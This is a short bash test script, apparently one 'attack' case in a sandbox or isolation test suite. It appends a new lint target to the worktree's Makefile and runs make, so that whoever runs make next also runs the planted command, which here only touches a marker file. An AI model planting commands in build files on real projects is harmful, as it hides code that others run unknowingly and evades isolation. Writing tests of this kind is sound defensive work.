#!/usr/bin/env bash
# Attack 11: plant a command in the worktree's Makefile and run make lint
# (so that whoever runs make next runs it).
source "$(dirname "$0")/lib.sh"
try "worktree Makefile" sh -c 'printf "\nlint:\n\t@touch %s/make-ran\n" "$2" >> "$1"' sh "$PWD/Makefile" "$ATTACK_HOST"
make lint 2>&1 | sed 's/^/attack make: /'
scale 0.9
finish
